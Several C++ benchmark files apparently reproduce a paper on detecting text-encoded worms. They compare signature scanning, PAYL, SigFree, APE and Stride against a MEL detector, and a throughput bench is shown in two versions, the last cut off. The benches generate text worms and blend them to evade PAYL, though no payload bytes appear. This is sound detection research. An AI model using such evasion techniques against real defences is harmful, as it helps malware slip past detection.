#pragma once
// Shared console-rendering helpers for the experiment harness binaries.
// Every bench prints (a) what the paper reports, (b) what this
// reproduction measures, so the two can be compared at a glance.

#include <cstdio>
#include <string>
#include <vector>

namespace mel::bench {

inline void print_rule(char fill = '=') {
  for (int i = 0; i < 78; ++i) std::putchar(fill);
  std::putchar('\n');
}

inline void print_title(const std::string& title) {
  print_rule('=');
  std::printf("%s\n", title.c_str());
  print_rule('=');
}

inline void print_section(const std::string& title) {
  std::printf("\n");
  std::printf("--- %s ", title.c_str());
  for (std::size_t i = title.size() + 5; i < 78; ++i) std::putchar('-');
  std::printf("\n");
}

/// Crude ASCII profile of a PMF-like series: one row per x with a bar.
inline void print_pmf_bar(std::int64_t x, double value, double scale,
                          const char* annotation = "") {
  std::printf("%5lld  %7.4f  ", static_cast<long long>(x), value);
  const int bars = static_cast<int>(value / scale * 60.0);
  for (int i = 0; i < bars && i < 60; ++i) std::putchar('#');
  if (annotation[0] != '\0') std::printf("  %s", annotation);
  std::putchar('\n');
}

struct SeriesPoint {
  double x = 0.0;
  double y = 0.0;
};

/// Minimal scatter plot on a character grid (for the iso-error curve).
inline void print_xy_plot(const std::vector<SeriesPoint>& points, int width,
                          int height, const char* x_label,
                          const char* y_label) {
  if (points.empty()) return;
  double x_min = points[0].x, x_max = points[0].x;
  double y_min = points[0].y, y_max = points[0].y;
  for (const auto& point : points) {
    x_min = std::min(x_min, point.x);
    x_max = std::max(x_max, point.x);
    y_min = std::min(y_min, point.y);
    y_max = std::max(y_max, point.y);
  }
  std::vector<std::string> grid(height, std::string(width, ' '));
  for (const auto& point : points) {
    const int col = static_cast<int>((point.x - x_min) / (x_max - x_min + 1e-12) *
                                     (width - 1));
    const int row = static_cast<int>((point.y - y_min) / (y_max - y_min + 1e-12) *
                                     (height - 1));
    grid[height - 1 - row][col] = '*';
  }
  std::printf("%s (%.3g .. %.3g)\n", y_label, y_min, y_max);
  for (const auto& line : grid) std::printf("  |%s\n", line.c_str());
  std::printf("  +");
  for (int i = 0; i < width; ++i) std::putchar('-');
  std::printf("\n   %s (%.3g .. %.3g)\n", x_label, x_min, x_max);
}

}  // namespace mel::bench
