// Experiment E10 — the motivating comparisons of Sections 1 and 4.2:
//  * a signature scanner (the paper's McAfee experiment) catches binary
//    shellcode but raises no alarm for the text re-encodings;
//  * PAYL-style 1-gram anomaly detection is evaded by Kolesnikov-Lee
//    blending, while the MEL signal is untouched;
//  * a SigFree-like useful-instruction counter also separates text worms
//    (it works, at higher analysis cost — which is why SigFree ships with
//    text scanning off).

#include <algorithm>
#include <cstdio>
#include <vector>

#include "bench_util.hpp"
#include "mel/baselines/payl.hpp"
#include "mel/baselines/sigfree.hpp"
#include "mel/baselines/signature_scanner.hpp"
#include "mel/core/detector.hpp"
#include "mel/textcode/blend.hpp"
#include "mel/textcode/encoder.hpp"
#include "mel/traffic/dataset.hpp"
#include "mel/traffic/english_model.hpp"

int main() {
  mel::bench::print_title(
      "Sections 1 & 4.2 — why existing detectors miss text malware");

  mel::util::Xoshiro256 rng(77);
  const auto& binaries = mel::textcode::binary_shellcode_corpus();
  const auto benign = mel::traffic::make_benign_dataset({});

  mel::bench::print_section(
      "Signature scanner (the McAfee experiment of Section 5.1)");
  mel::baselines::SignatureScanner scanner;
  scanner.add_signatures_from(binaries);
  std::printf("  %zu signatures extracted from known binary payloads\n",
              scanner.signature_count());
  std::printf("  %-18s %12s %12s\n", "payload", "binary worm",
              "text worm");
  int binary_caught = 0;
  int text_caught = 0;
  for (const auto& payload : binaries) {
    const auto binary_worm =
        mel::textcode::make_sled_worm(payload, 100, 8, rng);
    const auto text_worm =
        mel::textcode::encode_text_worm(payload.bytes, {}, rng);
    const bool caught_binary = scanner.scan(binary_worm).detected;
    const bool caught_text = scanner.scan(text_worm).detected;
    binary_caught += caught_binary;
    text_caught += caught_text;
    std::printf("  %-18s %12s %12s\n", payload.name.c_str(),
                caught_binary ? "DETECTED" : "missed",
                caught_text ? "DETECTED" : "missed");
  }
  std::printf("  summary: binary %d/%zu, text %d/%zu   "
              "(paper: alarms for binary only)\n",
              binary_caught, binaries.size(), text_caught, binaries.size());

  mel::bench::print_section("PAYL vs blended text malware (Kolesnikov-Lee)");
  mel::baselines::PaylDetector payl;
  payl.train(benign);
  const auto target = mel::traffic::measure_distribution(benign);
  mel::core::DetectorConfig mel_config;
  mel_config.preset_frequencies = target;
  const mel::core::MelDetector mel_detector(mel_config);

  std::printf("  %-18s %10s %10s | %10s %10s | %8s %8s\n", "payload",
              "payl-raw", "payl-blnd", "L1-raw", "L1-blnd", "mel-raw",
              "mel-blnd");
  int payl_raw_alarms = 0;
  int payl_blend_alarms = 0;
  int mel_blend_alarms = 0;
  for (const auto& payload : binaries) {
    auto worm = mel::textcode::encode_text_worm(payload.bytes, {}, rng);
    const double l1_raw =
        mel::textcode::distribution_distance(worm, target);
    mel::util::ByteBuffer padded = worm;
    padded.resize(4000, '!');
    const bool payl_raw = payl.scan(padded).alarm;

    mel::textcode::BlendOptions blend_options;
    blend_options.total_size = 4000;
    const auto blended = mel::textcode::blend_to_distribution(
        worm, target, blend_options, rng);
    const double l1_blend =
        mel::textcode::distribution_distance(blended, target);
    const bool payl_blend = payl.scan(blended).alarm;
    const bool mel_raw = mel_detector.scan(worm).malicious;
    const bool mel_blend = mel_detector.scan(blended).malicious;
    payl_raw_alarms += payl_raw;
    payl_blend_alarms += payl_blend;
    mel_blend_alarms += mel_blend;
    std::printf("  %-18s %10s %10s | %10.3f %10.3f | %8s %8s\n",
                payload.name.c_str(), payl_raw ? "ALARM" : "quiet",
                payl_blend ? "ALARM" : "quiet", l1_raw, l1_blend,
                mel_raw ? "ALARM" : "quiet", mel_blend ? "ALARM" : "quiet");
  }
  std::printf("  summary: PAYL raw %d/%zu, PAYL blended %d/%zu, "
              "MEL blended %d/%zu\n",
              payl_raw_alarms, binaries.size(), payl_blend_alarms,
              binaries.size(), mel_blend_alarms, binaries.size());
  std::printf("  (paper: blending evades payload statistics; the MEL of "
              "the executable prefix is untouched)\n");

  mel::bench::print_section("The n-gram arms race: 2-gram PAYL scores");
  {
    mel::baselines::PaylConfig two_gram;
    two_gram.ngram = 2;
    mel::baselines::PaylDetector payl2(two_gram);
    payl2.train(benign);
    // Median benign 2-gram score for scale.
    std::vector<double> scores;
    for (const auto& payload : benign) scores.push_back(payl2.score(payload));
    std::sort(scores.begin(), scores.end());
    const double median = scores[scores.size() / 2];
    const auto& payload = binaries.front();
    auto worm = mel::textcode::encode_text_worm(payload.bytes, {}, rng);
    mel::textcode::BlendOptions blend_options;
    blend_options.total_size = 4000;
    const auto blended = mel::textcode::blend_to_distribution(
        worm, mel::traffic::measure_distribution(benign), blend_options,
        rng);
    std::printf("  benign median 2-gram score : %8.1f\n", median);
    std::printf("  1-gram-blended worm score  : %8.1f  (%.1fx benign — the "
                "bigram structure betrays the naive blend)\n",
                payl2.score(blended), payl2.score(blended) / median);
    std::printf("  (full polymorphic blending defeats 2-grams too; MEL "
                "sidesteps the whole race)\n");
  }

  mel::bench::print_section("SigFree-like useful-instruction counting");
  const mel::baselines::SigFreeDetector sigfree;
  int sigfree_fp = 0;
  for (const auto& payload : benign) {
    if (sigfree.scan(payload).alarm) ++sigfree_fp;
  }
  int sigfree_fn = 0;
  const auto worms = mel::textcode::text_worm_corpus(54, 4);
  for (const auto& worm : worms) {
    if (!sigfree.scan(worm.bytes).alarm) ++sigfree_fn;
  }
  std::printf("  FP %d/100 benign, FN %d/%zu text worms\n", sigfree_fp,
              sigfree_fn, worms.size());
  std::printf("  (works when enabled — but SigFree usually bypasses text "
              "for performance; Section 2)\n");
  return 0;
}
