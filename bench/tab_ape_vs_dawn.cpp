// Experiment E9 — Sections 4.1 and 6: APE/Stride vs the MEL text detector.
//
// Three claims to reproduce:
//  (1) APE and Stride catch the sled-delivered binary worms of their era;
//  (2) both are blind to modern register-spring worms (no sled);
//  (3) APE, applied to the text channel, is ineffective — its narrow
//      invalidity rules make benign text "executable" for long stretches,
//      so any threshold either floods with FPs or misses the worms —
//      while DAWN's text-specific rules separate cleanly. Runtime is also
//      compared (APE samples; DAWN examines full content but prunes).

#include <algorithm>
#include <chrono>
#include <cstdio>

#include "bench_util.hpp"
#include "mel/baselines/ape.hpp"
#include "mel/baselines/stride.hpp"
#include "mel/core/detector.hpp"
#include "mel/exec/mel.hpp"
#include "mel/textcode/encoder.hpp"
#include "mel/textcode/shellcode_corpus.hpp"
#include "mel/traffic/dataset.hpp"
#include "mel/traffic/english_model.hpp"

namespace {

double seconds_since(std::chrono::steady_clock::time_point start) {
  return std::chrono::duration<double>(std::chrono::steady_clock::now() -
                                       start)
      .count();
}

}  // namespace

int main() {
  mel::bench::print_title("Sections 4.1 & 6 — APE / Stride vs DAWN-style MEL");

  mel::util::Xoshiro256 rng(46);
  const auto& binaries = mel::textcode::binary_shellcode_corpus();

  mel::bench::print_section(
      "(1) Sled-era binary worms (what APE/Stride were built for)");
  const mel::baselines::ApeDetector ape;
  const mel::baselines::StrideDetector stride;
  int ape_sled = 0;
  int stride_sled = 0;
  for (const auto& payload : binaries) {
    const auto worm = mel::textcode::make_sled_worm(payload, 300, 20, rng);
    if (ape.scan(worm).alarm) ++ape_sled;
    if (stride.scan(worm).alarm) ++stride_sled;
  }
  std::printf("  APE    alarms: %d/%zu\n", ape_sled, binaries.size());
  std::printf("  Stride alarms: %d/%zu   (both should catch sleds)\n",
              stride_sled, binaries.size());

  mel::bench::print_section(
      "(2) Register-spring worms (the modern, sled-less delivery)");
  int ape_spring = 0;
  int stride_spring = 0;
  std::size_t stride_max_sled = 0;
  for (const auto& payload : binaries) {
    const auto worm =
        mel::textcode::make_register_spring_worm(payload, 200, 8, rng);
    if (ape.scan(worm).alarm) ++ape_spring;
    const auto stride_result = stride.scan(worm);
    if (stride_result.alarm) ++stride_spring;
    stride_max_sled = std::max(stride_max_sled, stride_result.sled_length);
  }
  std::printf("  APE    alarms: %d/%zu\n", ape_spring, binaries.size());
  std::printf("  Stride alarms: %d/%zu (junk artifacts only: longest "
              "'sled' %zu bytes vs 300+ for real sleds)\n",
              stride_spring, binaries.size(), stride_max_sled);
  std::printf("  (paper: NOP sleds are almost never used nowadays; "
              "MEL-on-sleds no longer catches binary worms)\n");

  mel::bench::print_section("(3) The text channel: APE vs DAWN rules");
  const auto benign = mel::traffic::make_benign_dataset({});
  const auto worms = mel::textcode::text_worm_corpus(108, 2008);

  // APE on text: its narrow rules + tuned sled threshold.
  int ape_text_fp = 0;
  int ape_text_fn = 0;
  auto start = std::chrono::steady_clock::now();
  for (const auto& payload : benign) {
    if (ape.scan(payload).alarm) ++ape_text_fp;
  }
  for (const auto& worm : worms) {
    if (!ape.scan(worm.bytes).alarm) ++ape_text_fn;
  }
  const double ape_time = seconds_since(start);

  // DAWN-style detector.
  mel::core::DetectorConfig config;
  config.preset_frequencies = mel::traffic::measure_distribution(benign);
  const mel::core::MelDetector dawn(config);
  int dawn_fp = 0;
  int dawn_fn = 0;
  start = std::chrono::steady_clock::now();
  for (const auto& payload : benign) {
    if (dawn.scan(payload).malicious) ++dawn_fp;
  }
  for (const auto& worm : worms) {
    if (!dawn.scan(worm.bytes).malicious) ++dawn_fn;
  }
  const double dawn_time = seconds_since(start);

  std::printf("  %-22s %10s %10s %12s\n", "detector", "FP/100", "FN/108",
              "runtime (s)");
  std::printf("  %-22s %10d %10d %12.3f\n", "APE (tuned thresh.)",
              ape_text_fp, ape_text_fn, ape_time);
  std::printf("  %-22s %10d %10d %12.3f\n", "DAWN-style MEL", dawn_fp,
              dawn_fn, dawn_time);
  std::printf("\n  APE under its own rules sees benign text execute "
              "endlessly -> unusable FP rate.\n");

  // How large would APE's threshold have to be for zero text FPs, and
  // what would it then miss?
  mel::bench::print_section(
      "APE threshold sweep on text (no setting works)");
  std::printf("  %10s %10s %10s\n", "threshold", "FP/100", "FN/108");
  for (std::int64_t threshold : {35LL, 100LL, 300LL, 600LL, 1000LL}) {
    mel::baselines::ApeConfig ape_config;
    ape_config.threshold = threshold;
    const mel::baselines::ApeDetector tuned(ape_config);
    int fp = 0;
    int fn = 0;
    for (const auto& payload : benign) {
      if (tuned.scan(payload).alarm) ++fp;
    }
    for (const auto& worm : worms) {
      if (!tuned.scan(worm.bytes).alarm) ++fn;
    }
    std::printf("  %10lld %10d %10d\n", static_cast<long long>(threshold),
                fp, fn);
  }
  return 0;
}
