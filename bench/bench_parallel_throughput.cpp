// Parallel scan-engine throughput: payloads/sec and MB/sec of
// BatchScanService at 1, 2, 4 and hardware-width worker counts over
// generated HTTP + e-mail gateway traffic (with worms mixed in, as a
// live feed would have).
//
// Before timing anything, every parallel width is cross-checked against
// a sequential ScanService run — if a single verdict, MEL or degraded
// flag differs, the bench aborts: throughput numbers for a
// nondeterministic engine are meaningless.
//
// Results go to stdout (human table) and BENCH_parallel_throughput.json
// (machine-readable, includes the detected core count — scaling above
// the physical core count is scheduling noise, not speedup; see
// docs/performance.md).

#include <algorithm>
#include <chrono>
#include <cstdio>
#include <thread>
#include <vector>

#include "bench_util.hpp"
#include "mel/obs/export.hpp"
#include "mel/service/batch_scan_service.hpp"
#include "mel/textcode/encoder.hpp"
#include "mel/traffic/dataset.hpp"
#include "mel/traffic/email_gen.hpp"
#include "mel/util/rng.hpp"

namespace {

using Clock = std::chrono::steady_clock;

struct WidthResult {
  std::size_t workers = 0;
  double seconds = 0.0;
  double payloads_per_sec = 0.0;
  double mb_per_sec = 0.0;
  double speedup_vs_1 = 0.0;
};

/// Mixed gateway corpus: HTTP bodies, mail bodies, and ~5% text worms.
std::vector<mel::util::ByteBuffer> make_traffic(std::size_t http_cases,
                                                std::size_t mail_cases,
                                                std::size_t worm_cases) {
  mel::traffic::BenignDatasetOptions http_options;
  http_options.cases = http_cases;
  http_options.case_size = 4000;
  auto corpus = mel::traffic::make_benign_dataset(http_options);

  const mel::traffic::EmailGenerator email;
  for (auto& mail : email.make_mail_corpus(mail_cases, 4000, 13)) {
    corpus.push_back(std::move(mail));
  }
  for (const auto& worm : mel::textcode::text_worm_corpus(worm_cases, 2008)) {
    corpus.push_back(worm.bytes);
  }
  // Deterministic shuffle so worms interleave with benign traffic.
  mel::util::Xoshiro256 rng(7);
  for (std::size_t i = corpus.size(); i > 1; --i) {
    std::swap(corpus[i - 1], corpus[rng.next_below(i)]);
  }
  return corpus;
}

bool verdicts_match(const mel::service::BatchScanResult& parallel,
                    const std::vector<mel::service::BatchItemResult>& oracle) {
  if (parallel.items.size() != oracle.size()) return false;
  for (std::size_t i = 0; i < oracle.size(); ++i) {
    const auto& got = parallel.items[i];
    const auto& want = oracle[i];
    if (got.is_ok() != want.is_ok()) return false;
    if (!got.is_ok()) {
      if (got.status.code() != want.status.code()) return false;
      continue;
    }
    if (got.report.verdict.malicious != want.report.verdict.malicious ||
        got.report.verdict.mel != want.report.verdict.mel ||
        got.report.verdict.degraded != want.report.verdict.degraded) {
      return false;
    }
  }
  return true;
}

/// Everything the JSON artifact needs, filled in as far as the run got.
/// Emitted UNCONDITIONALLY — a failed run produces a JSON with its
/// status string instead of an empty bench trajectory (CI uploads the
/// file either way, so a regression is visible as data, not absence).
struct BenchOutput {
  std::string status = "ok";
  unsigned hardware = 1;
  std::size_t payloads = 0;
  std::uint64_t total_bytes = 0;
  std::uint64_t alarms = 0;
  bool deterministic = false;
  int repetitions = 0;
  std::vector<WidthResult> results;
  std::string metrics_scrape;
};

void emit_json(const BenchOutput& out) {
  std::FILE* json = std::fopen("BENCH_parallel_throughput.json", "w");
  if (json == nullptr) {
    std::fprintf(stderr, "cannot write BENCH_parallel_throughput.json\n");
    return;
  }
  std::fprintf(json, "{\n");
  std::fprintf(json, "  \"bench\": \"parallel_throughput\",\n");
  std::fprintf(json, "  \"status\": \"%s\",\n", out.status.c_str());
  std::fprintf(json, "  \"hardware_threads\": %u,\n", out.hardware);
  std::fprintf(json, "  \"payloads\": %zu,\n", out.payloads);
  std::fprintf(json, "  \"total_bytes\": %llu,\n",
               static_cast<unsigned long long>(out.total_bytes));
  std::fprintf(json, "  \"sequential_alarms\": %llu,\n",
               static_cast<unsigned long long>(out.alarms));
  std::fprintf(json, "  \"deterministic\": %s,\n",
               out.deterministic ? "true" : "false");
  std::fprintf(json, "  \"repetitions\": %d,\n", out.repetitions);
  std::fprintf(json, "  \"widths\": [\n");
  for (std::size_t i = 0; i < out.results.size(); ++i) {
    const WidthResult& row = out.results[i];
    std::fprintf(json,
                 "    {\"workers\": %zu, \"seconds\": %.6f, "
                 "\"payloads_per_sec\": %.1f, \"mb_per_sec\": %.3f, "
                 "\"speedup_vs_1\": %.3f}%s\n",
                 row.workers, row.seconds, row.payloads_per_sec,
                 row.mb_per_sec, row.speedup_vs_1,
                 i + 1 < out.results.size() ? "," : "");
  }
  std::fprintf(json, "  ]\n}\n");
  std::fclose(json);

  // The widest width's metrics registry in Prometheus exposition format
  // — what a scrape of a live deployment at this traffic mix would show
  // (docs/observability.md).
  std::FILE* prom = std::fopen("BENCH_parallel_metrics.prom", "w");
  if (prom == nullptr) {
    std::fprintf(stderr, "cannot write BENCH_parallel_metrics.prom\n");
    return;
  }
  std::fputs(out.metrics_scrape.c_str(), prom);
  std::fclose(prom);
  std::printf(
      "\nWrote BENCH_parallel_throughput.json and "
      "BENCH_parallel_metrics.prom\n");
}

int run(BenchOutput& out) {
  mel::bench::print_title(
      "Parallel scan engine — batch throughput vs worker count");

  const unsigned hardware = std::max(1u, std::thread::hardware_concurrency());
  out.hardware = hardware;
  const auto corpus = make_traffic(220, 60, 16);
  std::uint64_t total_bytes = 0;
  for (const auto& payload : corpus) total_bytes += payload.size();
  out.payloads = corpus.size();
  out.total_bytes = total_bytes;
  std::printf("\nTraffic: %zu payloads (HTTP + mail + worms), %.1f MB total. "
              "Detected hardware threads: %u.\n",
              corpus.size(), static_cast<double>(total_bytes) / 1e6,
              hardware);

  // Sequential oracle for the determinism cross-check.
  mel::service::ServiceConfig service_config;
  std::vector<mel::service::BatchItemResult> oracle(corpus.size());
  std::uint64_t alarms = 0;
  {
    auto service_or = mel::service::ScanService::create(service_config);
    if (!service_or.is_ok()) {
      std::fprintf(stderr, "service config rejected: %s\n",
                   service_or.status().to_string().c_str());
      out.status = "service config rejected";
      return 1;
    }
    const mel::service::ScanService service = std::move(service_or).take();
    mel::exec::MelScratch scratch;
    for (std::size_t i = 0; i < corpus.size(); ++i) {
      auto outcome = service.scan(mel::service::ScanRequest{
          .payload = corpus[i], .scratch = &scratch});
      if (outcome.is_ok()) {
        oracle[i].report = std::move(outcome).take();
        alarms += oracle[i].report.verdict.malicious;
      } else {
        oracle[i].status = outcome.status();
      }
    }
  }
  std::printf("Sequential oracle: %llu alarms raised.\n",
              static_cast<unsigned long long>(alarms));
  out.alarms = alarms;

  std::vector<std::size_t> widths{1, 2, 4};
  if (std::find(widths.begin(), widths.end(), hardware) == widths.end()) {
    widths.push_back(hardware);
  }

  constexpr int kRepetitions = 3;
  out.repetitions = kRepetitions;
  std::vector<WidthResult>& results = out.results;

  mel::bench::print_section("Throughput (best of 3 repetitions per width)");
  std::printf("%8s %10s %14s %10s %10s\n", "workers", "sec", "payloads/s",
              "MB/s", "speedup");
  for (std::size_t workers : widths) {
    mel::service::BatchConfig config;
    config.service = service_config;
    config.workers = workers;
    auto batch_or = mel::service::BatchScanService::create(config);
    if (!batch_or.is_ok()) {
      std::fprintf(stderr, "batch config rejected: %s\n",
                   batch_or.status().to_string().c_str());
      out.status = "batch config rejected";
      return 1;
    }
    const mel::service::BatchScanService batch = std::move(batch_or).take();

    double best_seconds = 0.0;
    for (int rep = 0; rep < kRepetitions; ++rep) {
      const auto start = Clock::now();
      const auto result = batch.scan_batch(corpus);
      const auto stop = Clock::now();
      if (!result.is_ok()) {
        std::fprintf(stderr, "scan_batch failed at width %zu: %s\n", workers,
                     result.status().to_string().c_str());
        out.status = "scan_batch failed at width " + std::to_string(workers);
        return 1;
      }
      if (!verdicts_match(result.value(), oracle)) {
        std::fprintf(stderr,
                     "DETERMINISM VIOLATION at width %zu: parallel verdicts "
                     "differ from sequential.\n",
                     workers);
        out.status =
            "determinism violation at width " + std::to_string(workers);
        return 1;
      }
      const double seconds =
          std::chrono::duration<double>(stop - start).count();
      if (rep == 0 || seconds < best_seconds) best_seconds = seconds;
    }

    // The widest run's registry becomes the scrape artifact (each width
    // has its own service, so this covers kRepetitions batches).
    out.metrics_scrape = mel::obs::to_prometheus(batch.metrics_snapshot());

    WidthResult row;
    row.workers = workers;
    row.seconds = best_seconds;
    row.payloads_per_sec = static_cast<double>(corpus.size()) / best_seconds;
    row.mb_per_sec = static_cast<double>(total_bytes) / 1e6 / best_seconds;
    row.speedup_vs_1 =
        results.empty() ? 1.0 : results.front().seconds / best_seconds;
    results.push_back(row);
    std::printf("%8zu %10.3f %14.0f %10.1f %9.2fx\n", row.workers,
                row.seconds, row.payloads_per_sec, row.mb_per_sec,
                row.speedup_vs_1);
  }

  std::printf("\nAll widths produced verdicts bit-identical to the "
              "sequential run.\n");
  out.deterministic = true;
  if (hardware < 4) {
    std::printf("NOTE: only %u hardware thread(s) detected — speedups above "
                "1.0x are not\nachievable on this host; compare on a "
                "multi-core machine (docs/performance.md).\n",
                hardware);
  }
  return 0;
}

}  // namespace

int main() {
  BenchOutput out;
  const int rc = run(out);
  if (rc != 0 && out.status == "ok") out.status = "failed";
  emit_json(out);
  return rc;
}
