// Parallel scan-engine throughput: payloads/sec and MB/sec of
// BatchScanService at 1, 2, 4 and hardware-width worker counts over
// generated HTTP + e-mail gateway traffic (with worms mixed in, as a
// live feed would have), plus two single-core sections:
//
//  * Engine comparison — kCachedDag (decode-once cache + O(n) DP) vs the
//    legacy kAllPathsDag engine, sequentially over the full corpus with
//    one persistent scratch each. Every payload's MelResult is
//    cross-checked field for field between the engines before the
//    speedup is reported; a single mismatch aborts the bench.
//
//  * Stream throughput — a StreamDetector fed the whole corpus as one
//    flow, reported as BOTH raw MB/s (stream bytes consumed per second)
//    and effective MB/s (bytes actually handed to the engine, including
//    the overlap re-fed at the front of each window). The gap between
//    the two is the price of windowed overlap; see docs/performance.md.
//
// Before timing anything, every parallel width is cross-checked against
// a sequential ScanService run — if a single verdict, MEL or degraded
// flag differs, the bench aborts: throughput numbers for a
// nondeterministic engine are meaningless.
//
// Results go to stdout (human table) and BENCH_parallel_throughput.json,
// written at the repo root (MEL_BENCH_REPO_ROOT, baked in by CMake) so CI
// can upload it no matter the working directory. The JSON includes the
// detected core count — scaling above the physical core count is
// scheduling noise, not speedup; see docs/performance.md.
//
// `--smoke` shrinks the corpus and runs one repetition per measurement:
// a seconds-long CI gate that still exercises every cross-check.

#include <algorithm>
#include <chrono>
#include <cstdio>
#include <cstring>
#include <string>
#include <thread>
#include <vector>

#include "bench_util.hpp"
#include "mel/core/stream_detector.hpp"
#include "mel/exec/mel.hpp"
#include "mel/obs/export.hpp"
#include "mel/service/batch_scan_service.hpp"
#include "mel/textcode/encoder.hpp"
#include "mel/traffic/dataset.hpp"
#include "mel/traffic/email_gen.hpp"
#include "mel/util/rng.hpp"

#ifndef MEL_BENCH_REPO_ROOT
#define MEL_BENCH_REPO_ROOT "."
#endif

namespace {

using Clock = std::chrono::steady_clock;

struct WidthResult {
  std::size_t workers = 0;
  double seconds = 0.0;
  double payloads_per_sec = 0.0;
  double mb_per_sec = 0.0;
  double speedup_vs_1 = 0.0;
};

/// Single-core kCachedDag vs kAllPathsDag over the full corpus.
struct EngineComparison {
  bool ran = false;
  std::size_t payloads = 0;
  bool bit_identical = false;
  double legacy_seconds = 0.0;
  double cached_seconds = 0.0;
  double legacy_mb_per_sec = 0.0;
  double cached_mb_per_sec = 0.0;
  double speedup = 0.0;
};

/// StreamDetector over the corpus as one flow: raw vs effective MB/s.
struct StreamThroughput {
  bool ran = false;
  double seconds = 0.0;
  std::uint64_t bytes_consumed = 0;
  std::uint64_t bytes_scanned = 0;
  std::uint64_t windows = 0;
  std::uint64_t alerts = 0;
  double raw_mb_per_sec = 0.0;
  double effective_mb_per_sec = 0.0;
};

/// Mixed gateway corpus: HTTP bodies, mail bodies, and ~5% text worms.
std::vector<mel::util::ByteBuffer> make_traffic(std::size_t http_cases,
                                                std::size_t mail_cases,
                                                std::size_t worm_cases) {
  mel::traffic::BenignDatasetOptions http_options;
  http_options.cases = http_cases;
  http_options.case_size = 4000;
  auto corpus = mel::traffic::make_benign_dataset(http_options);

  const mel::traffic::EmailGenerator email;
  for (auto& mail : email.make_mail_corpus(mail_cases, 4000, 13)) {
    corpus.push_back(std::move(mail));
  }
  for (const auto& worm : mel::textcode::text_worm_corpus(worm_cases, 2008)) {
    corpus.push_back(worm.bytes);
  }
  // Deterministic shuffle so worms interleave with benign traffic.
  mel::util::Xoshiro256 rng(7);
  for (std::size_t i = corpus.size(); i > 1; --i) {
    std::swap(corpus[i - 1], corpus[rng.next_below(i)]);
  }
  return corpus;
}

bool verdicts_match(const mel::service::BatchScanResult& parallel,
                    const std::vector<mel::service::BatchItemResult>& oracle) {
  if (parallel.items.size() != oracle.size()) return false;
  for (std::size_t i = 0; i < oracle.size(); ++i) {
    const auto& got = parallel.items[i];
    const auto& want = oracle[i];
    if (got.is_ok() != want.is_ok()) return false;
    if (!got.is_ok()) {
      if (got.status.code() != want.status.code()) return false;
      continue;
    }
    if (got.report.verdict.malicious != want.report.verdict.malicious ||
        got.report.verdict.mel != want.report.verdict.mel ||
        got.report.verdict.degraded != want.report.verdict.degraded) {
      return false;
    }
  }
  return true;
}

/// Field-for-field equality over the whole MelResult — the contract the
/// cached engine makes (and tests/test_exec_mel_engines.cpp enforces).
bool mel_results_equal(const mel::exec::MelResult& a,
                       const mel::exec::MelResult& b) {
  return a.mel == b.mel && a.best_entry_offset == b.best_entry_offset &&
         a.loop_detected == b.loop_detected &&
         a.budget_exhausted == b.budget_exhausted &&
         a.deadline_exceeded == b.deadline_exceeded &&
         a.early_exit == b.early_exit &&
         a.instructions_decoded == b.instructions_decoded;
}

/// Everything the JSON artifact needs, filled in as far as the run got.
/// Emitted UNCONDITIONALLY — a failed run produces a JSON with its
/// status string instead of an empty bench trajectory (CI uploads the
/// file either way, so a regression is visible as data, not absence).
struct BenchOutput {
  std::string status = "ok";
  bool smoke = false;
  unsigned hardware = 1;
  std::size_t payloads = 0;
  std::uint64_t total_bytes = 0;
  std::uint64_t alarms = 0;
  bool deterministic = false;
  int repetitions = 0;
  EngineComparison engines;
  StreamThroughput stream;
  std::vector<WidthResult> results;
  std::string metrics_scrape;
};

void emit_json(const BenchOutput& out) {
  const char* path = MEL_BENCH_REPO_ROOT "/BENCH_parallel_throughput.json";
  std::FILE* json = std::fopen(path, "w");
  if (json == nullptr) {
    std::fprintf(stderr, "cannot write %s\n", path);
    return;
  }
  std::fprintf(json, "{\n");
  std::fprintf(json, "  \"bench\": \"parallel_throughput\",\n");
  std::fprintf(json, "  \"schema_version\": 2,\n");
  std::fprintf(json, "  \"status\": \"%s\",\n", out.status.c_str());
  std::fprintf(json, "  \"smoke\": %s,\n", out.smoke ? "true" : "false");
  std::fprintf(json, "  \"hardware_threads\": %u,\n", out.hardware);
  std::fprintf(json, "  \"corpus_payloads\": %zu,\n", out.payloads);
  // In-process batch bench: no network shards; the worker sweep is the
  // \"widths\" array below, so \"workers\" reports the widest width run.
  std::fprintf(json, "  \"shards\": 0,\n");
  std::fprintf(json, "  \"workers\": %zu,\n",
               out.results.empty() ? std::size_t{0}
                                   : out.results.back().workers);
  std::fprintf(json, "  \"payloads\": %zu,\n", out.payloads);
  std::fprintf(json, "  \"total_bytes\": %llu,\n",
               static_cast<unsigned long long>(out.total_bytes));
  std::fprintf(json, "  \"sequential_alarms\": %llu,\n",
               static_cast<unsigned long long>(out.alarms));
  std::fprintf(json, "  \"deterministic\": %s,\n",
               out.deterministic ? "true" : "false");
  std::fprintf(json, "  \"repetitions\": %d,\n", out.repetitions);
  std::fprintf(json,
               "  \"engine_comparison\": {\"ran\": %s, \"payloads\": %zu, "
               "\"bit_identical\": %s, \"legacy_seconds\": %.6f, "
               "\"cached_seconds\": %.6f, \"legacy_mb_per_sec\": %.3f, "
               "\"cached_mb_per_sec\": %.3f, \"speedup_x\": %.3f},\n",
               out.engines.ran ? "true" : "false", out.engines.payloads,
               out.engines.bit_identical ? "true" : "false",
               out.engines.legacy_seconds, out.engines.cached_seconds,
               out.engines.legacy_mb_per_sec, out.engines.cached_mb_per_sec,
               out.engines.speedup);
  std::fprintf(json,
               "  \"stream\": {\"ran\": %s, \"seconds\": %.6f, "
               "\"bytes_consumed\": %llu, \"bytes_scanned\": %llu, "
               "\"windows\": %llu, \"alerts\": %llu, "
               "\"raw_mb_per_sec\": %.3f, \"effective_mb_per_sec\": %.3f},\n",
               out.stream.ran ? "true" : "false", out.stream.seconds,
               static_cast<unsigned long long>(out.stream.bytes_consumed),
               static_cast<unsigned long long>(out.stream.bytes_scanned),
               static_cast<unsigned long long>(out.stream.windows),
               static_cast<unsigned long long>(out.stream.alerts),
               out.stream.raw_mb_per_sec, out.stream.effective_mb_per_sec);
  std::fprintf(json, "  \"widths\": [\n");
  for (std::size_t i = 0; i < out.results.size(); ++i) {
    const WidthResult& row = out.results[i];
    std::fprintf(json,
                 "    {\"workers\": %zu, \"seconds\": %.6f, "
                 "\"payloads_per_sec\": %.1f, \"mb_per_sec\": %.3f, "
                 "\"speedup_vs_1\": %.3f}%s\n",
                 row.workers, row.seconds, row.payloads_per_sec,
                 row.mb_per_sec, row.speedup_vs_1,
                 i + 1 < out.results.size() ? "," : "");
  }
  std::fprintf(json, "  ]\n}\n");
  std::fclose(json);

  // The widest width's metrics registry in Prometheus exposition format
